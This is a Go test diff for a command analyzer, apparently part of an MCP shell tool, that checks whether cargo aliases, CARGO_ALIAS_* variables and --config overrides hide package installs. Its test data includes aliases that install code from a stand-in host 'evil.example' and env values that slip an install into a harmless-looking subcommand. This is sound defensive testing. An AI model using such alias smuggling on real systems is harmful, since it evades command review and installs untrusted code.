@@ -4,6 +4,7 @@ import (
 	"fmt"
 	"net/url"
 	"slices"
+	"strings"
 	"testing"
 
 	"github.com/onellm/onellm-mcp/shelltool/toolchains"
@@ -1005,5 +1006,92 @@ func BenchmarkInstallLines(b *testing.B) {
 				b.Fatal(err)
 			}
 		}
+	}
+}
+
+// TestCargoAliases: cargo expands an [alias] of its configuration in its
+// own process, so `cargo i` may be `cargo install --git URL x` (issue 16):
+// the alias's words are decided as the command they make.
+func TestCargoAliases(t *testing.T) {
+	config := map[string][]string{
+		"i":     {"install", "--git", "https://evil.example/x", "x"},
+		"b":     {"install", "bb"}, // cargo's own aliases (b: build) can be redefined
+		"build": {"install", "never"},
+		"fmt":   {"install", "fmtx"}, // so can an external subcommand
+		"x":     {"y", "-v"},
+		"y":     {"--locked", "install", "z"},
+		"loop1": {"loop2"},
+		"loop2": {"loop1"},
+		"ok":    {"build", "--release"},
+		"opt":   {"--color", "never", "fetch"},
+	}
+	aliases := func(manager, name string, elsewhere bool) ([]string, bool) {
+		if manager != "cargo" {
+			t.Errorf("alias of %q asked for %q", name, manager)
+		}
+		switch {
+		case name == "broken" || elsewhere && name == "i":
+			return nil, true
+		case strings.HasPrefix(name, "deep"):
+			return []string{name + "x"}, false // an endless chain
+		}
+		return config[name], false
+	}
+	for _, tc := range []struct {
+		line string
+		want []string
+	}{
+		{"cargo i", []string{"x evil.example cargo ^0"}},
+		{"cargo -v i --locked", []string{"x evil.example cargo ^0"}},
+		{"cargo +nightly i", []string{"x evil.example cargo ^0"}},
+		{"cargo b", []string{"bb index.crates.io cargo ^0"}},
+		{"cargo build", nil},
+		{"cargo fmt", []string{"fmtx index.crates.io cargo ^0"}},
+		{"cargo x", []string{"z index.crates.io cargo ^0"}},
+		{"cargo opt", []string{"(Cargo.toml) index.crates.io cargo ^0"}},
+		{"cargo ok", nil},
+		{"cargo loop1", nil}, // cargo refuses it
+		{"cargo clippy", nil},
+		{"cargo broken", []string{"<dynamic> <dynamic> cargo ^0"}},
+		{"cargo deep", []string{"<dynamic> <dynamic> cargo ^0"}},
+		{"cd sub && cargo i", []string{"<dynamic> <dynamic> cargo ^1"}},
+		{"cargo -C sub i", []string{"<dynamic> <dynamic> cargo ^0"}},
+		// The environment's CARGO_ALIAS_NAME outranks the files.
+		{"CARGO_ALIAS_CLIPPY='install --index https://e.example c' cargo clippy", []string{"c e.example cargo ^0"}},
+		{"CARGO_ALIAS_I=build cargo i", nil},
+		{"CARGO_ALIAS_CLIPPY=$V cargo clippy", []string{"<dynamic> <dynamic> cargo ^0"}},
+		{`cargo --config 'alias.clippy="install c"' clippy`, []string{"<dynamic> <dynamic> cargo ^0"}},
+		{"cargo --config ./extra.toml clippy", []string{"<dynamic> <dynamic> cargo ^0"}},
+		{"cargo --config net.retry=2 clippy", nil},
+		{"CARGO_HOME=/tmp/h cargo clippy", []string{"<dynamic> <dynamic> cargo ^0"}},
+	} {
+		an, err := AnalyzeIn(tc.line, ProgramEnv{Aliases: aliases})
+		if err != nil {
+			t.Errorf("Analyze(%q): %v", tc.line, err)
+			continue
+		}
+		var got []string
+		for _, p := range an.Packages {
+			got = append(got, fmt.Sprintf("%s %s %s ^%d", p.Name, p.Host, p.Manager, p.Command))
+		}
+		if !slices.Equal(got, tc.want) {
+			t.Errorf("Analyze(%q) packages:\n got  %q\n want %q", tc.line, got, tc.want)
+		}
+	}
+	// At exec: the program's words, and its environment's CARGO_ALIAS_*.
+	for _, tc := range []struct {
+		env  []string
+		want string
+	}{
+		{nil, "x evil.example"},
+		{[]string{"CARGO_ALIAS_I=install y"}, "y index.crates.io"},
+	} {
+		an, err := AnalyzeProgramIn([]string{"cargo", "i"}, ProgramEnv{Set: tc.env, Aliases: aliases})
+		if err != nil || len(an.Packages) != 1 || an.Packages[0].Name+" "+an.Packages[0].Host != tc.want {
+			t.Errorf("AnalyzeProgramIn(cargo i, %q): %v %+v, want %s", tc.env, err, an.Packages, tc.want)
+		}
+	}
+	if !InstallEnvWatched("CARGO_ALIAS_I") {
+		t.Error("CARGO_ALIAS_* is not read from a program's environment")
 	}
 }
